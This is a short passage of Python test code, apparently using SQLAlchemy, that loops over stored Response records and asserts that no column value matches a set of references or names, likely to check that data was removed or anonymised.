        for response in db.session.scalars(select(Response)):
            values = {str(getattr(response, c.key)) for c in inspect(Response).columns}
            assert not values & (refs | names)
